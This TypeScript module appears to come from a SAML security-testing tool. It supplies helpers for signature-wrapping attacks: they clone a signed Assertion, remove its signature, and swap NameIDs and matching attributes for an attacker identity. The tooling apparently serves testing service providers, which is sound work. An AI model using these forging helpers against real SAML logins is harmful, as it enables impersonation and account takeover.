/*
 * The pieces every assertion-smuggling attack shares (Somorovsky et al., "On Breaking SAML: Be Whoever You Want
 * to Be", USENIX Security 2012): find the genuine Assertion the IdP signed, and make an "evil" unsigned copy of
 * it that names the attacker's chosen identity. Where the copy goes is each attack's own file.
 */
import { idpError } from '../errors.ts';
import { NS } from '../namespaces.ts';
import { descendants, firstChild, newId } from '../xml.ts';

/** Who an attack tries to sign in as when the caller names nobody. */
export const DEFAULT_ATTACKER_NAME_ID = 'attacker@evil.example';

function setText(el: Element, value: string): void {
  while (el.firstChild) el.removeChild(el.firstChild);
  el.appendChild(el.ownerDocument!.createTextNode(value));
}

/** Replaces the text of every NameID under `root` (nothing else); returns the texts it replaced. */
export function replaceNameIds(root: Element, attackerNameId: string): Set<string> {
  const nameIds = descendants(root, NS.assertion, 'NameID');
  const original = new Set(nameIds.map((n) => n.textContent ?? ''));
  for (const nameId of nameIds) setText(nameId, attackerNameId);
  return original;
}

/**
 * Replaces the text of every NameID under `root` with the attacker's chosen identity, and every AttributeValue
 * that repeated a NameID (the e-mail, usually): an SP that takes its login from an attribute then meets the
 * attacker's identity too, so "accepted as <victim>" shows whichever field the SP reads.
 */
export function makeEvil(root: Element, attackerNameId: string): void {
  const original = replaceNameIds(root, attackerNameId);
  for (const value of descendants(root, NS.assertion, 'AttributeValue')) if (original.has(value.textContent ?? '')) setText(value, attackerNameId);
}

export function removeSignature(el: Element): void {
  const sig = firstChild(el, NS.ds, 'Signature');
  if (sig) el.removeChild(sig);
}

/** The Response's one plain Assertion child; `attack` names the deviation in the builder error. */
export function genuineAssertion(response: Element, attack: string, options: { signed?: boolean } = {}): Element {
  const assertion = firstChild(response, NS.assertion, 'Assertion');
  if (!assertion) throw idpError('builder/invalid', `${attack} needs an unencrypted Assertion`);
  if (options.signed && !firstChild(assertion, NS.ds, 'Signature')) throw idpError('builder/invalid', `${attack} needs a signed Assertion (signAssertionOnly/signBoth)`);
  return assertion;
}

/** An unsigned copy of `assertion` for the attacker's identity, with a fresh ID unless `sameId`. */
export function evilCopy(assertion: Element, attackerNameId: string, options: { sameId?: boolean } = {}): Element {
  const evil = assertion.cloneNode(true) as Element;
  removeSignature(evil);
  makeEvil(evil, attackerNameId);
  if (!options.sameId) evil.setAttribute('ID', newId());
  return evil;
}

/** The ds:Signature child of `el`, if any. */
export function signatureOf(el: Element): Element | undefined {
  return firstChild(el, NS.ds, 'Signature');
}
